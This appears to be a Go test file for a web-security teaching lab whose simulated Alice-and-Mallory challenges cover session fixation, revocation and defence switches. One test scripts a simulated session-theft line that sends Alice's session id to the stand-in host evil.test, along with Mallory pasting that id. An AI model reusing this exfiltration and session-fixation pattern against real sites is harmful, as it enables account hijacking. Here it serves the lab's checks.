package page

import (
	"strings"
	"testing"

	"fixlab/app/class"
	"fixlab/lab/ask"
	"fixlab/lab/goal"
	"fixlab/lab/incident"
	"fixlab/lab/script"
	"fixlab/scenarios"
)

// open opens a goal with a learner's own seed.
func opened(t *testing.T, id, seed string) Model {
	t.Helper()
	m, _ := Start("1/signed-id-toss/none/1", Settings{Seed: seed})
	m = m.then(OpenGoal(id)).rests()
	if !m.Task.On() || m.Task.ID() != id || m.Notice != "" {
		t.Fatalf("%s is not opened: %s", id, m.Notice)
	}
	return m
}

// rests lets what is to be judged be judged.
func (m Model) rests() Model { return m.then(GoalRests(m.judging)) }

// worked gives the worked solution, through the page.
func worked(t *testing.T, m Model) Model {
	t.Helper()
	a, err := goal.Worked(m.Task.Goal(), scenarios.Ground(m.Task.Challenge, m.Task.Seed))
	if err != nil {
		t.Fatal(err)
	}
	switch m.Task.Kind() {
	case script.MayScript:
		for m.CanTakeBack() {
			m = m.then(TakeBack{})
		}
		for _, s := range a.Steps {
			m = m.then(Act{s.String()})
		}
	case script.MaySwitches, script.MayOff:
		for _, info := range (m.Defences ^ a.On).Infos() {
			m = m.then(Flip(info.Set))
		}
	case script.MayPoint:
		for n, options := range m.Options() {
			for i, p := range options {
				if right, _ := ask.Judge(m.Trace, m.Task.Challenge.Course.Asks[n], p); right && m.Task.Draft.Points[n] == 0 {
					m = m.then(PickPoint{n, i + 1})
				}
			}
		}
		m = m.then(TryGoal{})
	case script.MayPatch:
		m = m.then(PickPatch(a.Patch), TryGoal{})
	case script.MayRevoke:
		for _, s := range a.Revoked {
			m = m.then(PickSession{s, true})
		}
		m = m.then(TryGoal{})
	case script.MayClaims:
		for n, c := range a.Claims {
			m = m.then(PickClaim{n, c.True}, PickRow{n, c.Row})
		}
		m = m.then(TryGoal{})
	}
	return m.rests()
}

// Every goal is solved through the page by its worked solution, and not before; that is
// kept, and can be seen again.
func TestGoals(t *testing.T) {
	for _, id := range class.Goals() {
		m := opened(t, id, "7")
		if m.Task.Solved() {
			t.Errorf("%s is solved by doing nothing", id)
		}
		if m.Task.ByRun() && m.Task.Verdict == nil {
			t.Errorf("%s is not judged as it is opened: %s", id, m.Task.Fault)
		}
		hinted := m.then(NextHint{}, NextHint{}, NextHint{}, NextHint{})
		if hinted.Task.Hints != 3 || hinted.Kept().Hints != 3 {
			t.Errorf("%s has %d hints", id, hinted.Task.Hints)
		}
		won := worked(t, m)
		if !won.Task.Solved() {
			t.Errorf("%s is not solved by its worked solution: %s, %s, %+v", id, won.Notice, won.Task.Fault, won.Task.Verdict.Fails())
			continue
		}
		kept := won.Kept()
		if !kept.Solved || kept.Tries == 0 || kept.Hints != 0 {
			t.Errorf("%s is kept as %+v", id, kept)
		}
		again, err := ParseProgress(won.Learn.Progress.String())
		if err != nil || again.Challenges[id] != kept {
			t.Errorf("%s comes back as %+v, %v", id, again.Challenges[id], err)
		}
		if link, ok := strings.CutPrefix(kept.Answer, "#"); ok {
			seen := won.then(OpenGoal(id), Follow(link)).rests()
			if !seen.Task.Solved() {
				t.Errorf("%s: its solution, seen again, is not one: %s", id, seen.Fragment())
			}
		}
		for _, p := range won.Task.Verdict {
			if says := won.Task.PartWords(p); says == "" || strings.Contains(says, "term.") || strings.Contains(says, "part.") || strings.Contains(says, "journey.") {
				t.Errorf("%s: a part says %q", id, says)
			}
		}
	}
}

// What does not hold yet is named, with a link to its step.
func TestGoalParts(t *testing.T) {
	for _, id := range []string{"make-it-happen", "one-switch", "keep-the-basket", "get-in-anyway", "step-up"} {
		m := opened(t, id, "")
		fails := m.Task.Verdict.Fails()
		if len(fails) == 0 {
			t.Fatalf("%s: nothing is missing", id)
		}
		link := m.PartLink(fails[0])
		if link == "" {
			t.Errorf("%s: no step shows that %q", id, m.Task.PartWords(fails[0]))
			continue
		}
		if there := m.then(Follow(link)); there.Notice != "" || there.Page != "" || there.Step != fails[0].Frame {
			t.Errorf("%s: #%s leads to step %d: %s", id, link, there.Step+1, there.Notice)
		}
	}
	for _, id := range class.Goals() { // every link of every part leads somewhere
		m := opened(t, id, "")
		for _, p := range m.Task.Verdict {
			if link := m.PartLink(p); link != "" {
				if there := m.then(Follow(link)); there.Notice != "" {
					t.Errorf("%s: #%s: %s", id, link, there.Notice)
				}
			}
		}
	}
}

// What a challenge does not grant is refused, whoever tries it.
func TestGoalGrants(t *testing.T) {
	m := opened(t, "make-it-happen", "")
	for _, act := range []Msg{Act{"mallory script a=b"}, SitDown(true), Act{"server deploy"}, Act{"mallory@alice copy loot"}} {
		if next := m.then(act); len(next.Scenario.Steps) != len(m.Scenario.Steps) {
			t.Errorf("%v is done: %s", act, next.Notice)
		}
	}
	if next := m.then(Flip(1)); next.Defences != m.Defences || next.Notice == "" {
		t.Error("a locked switch is thrown")
	}
	// It can be typed, and does not win.
	typed := m.then(Edit{Text: script.Append(m.Scenario.Text, "mallory@alice copy loot", "alice post /login user=alice password=correct-horse")}, EditRests(0)).rests()
	if typed.Task.Solved() || typed.Task.Verdict == nil || typed.Task.Verdict[0].Holds {
		t.Errorf("%+v", typed.Task.Verdict)
	}
	// The server of the header is not the challenge's.
	for _, easy := range []Model{worked(t, m).then(SetHead{"on", ""}).rests(), worked(t, m).then(SetServer("flask-seed")).rests(), worked(t, m).then(SetHead{"seed", "2"}).rests()} {
		if easy.Task.On() && (easy.Task.Solved() || easy.Task.Fault == "") {
			t.Errorf("another header is judged: %q", easy.Scenario.Text)
		}
	}
}

// Of two neighbours each has an incident of her own.
func TestNeighbours(t *testing.T) {
	differ := 0
	for _, seed := range []string{"1", "2", "3", "4", "5", "6"} {
		mine, theirs := opened(t, "ten-minute-incident", seed), opened(t, "ten-minute-incident", seed+"x")
		for _, s := range incident.New(theirs.Task.Seed).Fixated() {
			mine = mine.then(PickSession{s, true})
		}
		if !mine.then(TryGoal{}).Task.Solved() {
			differ++
		}
	}
	if differ < 4 {
		t.Errorf("a neighbour's answer solves %d of 6", 6-differ)
	}
	m := opened(t, "ten-minute-incident", "9").then(TryGoal{}, TryGoal{})
	if late := worked(t, m); late.Task.Solved() {
		t.Error("the third try wins")
	}
	back := m.then(OpenGoal("one-switch"), OpenGoal("ten-minute-incident"))
	if back.Task.Tries != 2 || worked(t, back).Task.Solved() {
		t.Errorf("to go and to come back gives %d tries more", 2-back.Task.Tries)
	}
	again := m.then(Restart{})
	if again.Task.Tries != 0 || again.Task.Seed == m.Task.Seed || !worked(t, again).Task.Solved() {
		t.Errorf("begun again: %d tries, seed %s", again.Task.Tries, again.Task.Seed)
	}
}

// What was not picked yet is asked for, and is no try.
func TestGoalMissing(t *testing.T) {
	for _, id := range []string{"point-at-the-cause", "fix-it", "nothing-to-rotate"} {
		if m := opened(t, id, "").then(TryGoal{}); m.Notice == "" || m.Task.Tries != 0 {
			t.Errorf("%s: %q, %d tries", id, m.Notice, m.Task.Tries)
		}
	}
}

// A script that answers a challenge says so in its header: a link to it is that challenge.
func TestGoalLink(t *testing.T) {
	m := worked(t, opened(t, "get-in-anyway", ""))
	there, _ := Start(m.Fragment(), Settings{Script: m.Hand.Seen()})
	if !there.Task.On() || there.Task.ID() != "get-in-anyway" {
		t.Errorf("%s is no challenge: %q", m.Fragment(), there.Page)
	}
	if !there.rests().Task.Solved() && there.judging == 0 {
		there = there.then(TryGoal{})
		if !there.Task.Solved() {
			t.Errorf("%+v", there.Task.Verdict.Fails())
		}
	}
	for _, bad := range []string{"nothing-like-it", "test-the-article/4", "make-it-happen/x"} {
		if _, err := scenarios.Own("title: X\nprofile: signed-id\nchallenge: " + bad + "\n"); err == nil || !strings.HasPrefix(err.Error(), "script.txt:3: ") {
			t.Errorf("challenge %s: %v", bad, err)
		}
	}
}

// Alice does what the challenge says, of herself and with a link that she is sent.
func TestGoalHabits(t *testing.T) {
	m := opened(t, "make-it-happen", "")
	if len(m.Habits()) != 3 || m.Habits()[1].Lines[0] != "alice post /login user=alice password=correct-horse" {
		t.Errorf("%+v", m.Habits())
	}
	m = m.then(SendLink("https://blog.shop.example/"))
	n := len(m.Scenario.Steps)
	if m.Notice != "" || n < 3 || m.Scenario.Steps[n-2].String() != "mallory let link=https://blog.shop.example/" || m.Scenario.Steps[n-1].String() != "alice get $link" {
		t.Errorf("%q: %s", steps(m), m.Notice)
	}
}

// A link opens a challenge as it begins: no answer is in it.
func TestLinkToGoal(t *testing.T) {
	for _, id := range class.Goals() {
		m, _ := Start(LinkToGoal(id), Settings{})
		if !m.Task.On() || m.Task.ID() != id || m.Notice != "" || m.rests().Task.Solved() {
			t.Errorf("#%s: %s", LinkToGoal(id), m.Notice)
		}
		there := linked(t, "1/any-route/rotate/3").then(Follow(LinkToGoal(id)))
		if there.Fragment() != m.Fragment() {
			t.Errorf("#%s leads to %s and to %s", LinkToGoal(id), m.Fragment(), there.Fragment())
		}
	}
	if m, _ := Start("challenge/make-it-hapen", Settings{}); m.Notice == "" || !strings.Contains(m.Notice, "make-it-happen") || m.Trace == nil {
		t.Errorf("%q", m.Notice)
	}
}

// Who plays sees every screen; Mallory does not. A session id that is typed out wins nothing.
func TestTypedOut(t *testing.T) {
	m := opened(t, "make-it-happen", "")
	for m.CanTakeBack() {
		m = m.then(TakeBack{})
	}
	m = m.then(Act{"alice get /"}, Act{"alice post /login user=alice password=correct-horse"})
	value := m.stateOf("alice").Jar[0].Value
	for _, line := range []string{"mallory paste sid=" + value, "mallory let x=" + value + "\nmallory paste sid=$x", "alice get https://evil.test/?c=" + value} {
		next := m
		for part := range strings.SplitSeq(line, "\n") {
			next = next.then(Act{part})
		}
		if strings.HasPrefix(line, "alice") {
			next = next.then(Act{"mallory paste sid=" + value})
		}
		if next = next.then(Act{"mallory get /profile"}).rests(); next.Task.Solved() || next.Task.Verdict == nil {
			t.Errorf("%s wins, or is not judged: %s", line, next.Task.Fault)
		}
	}
}
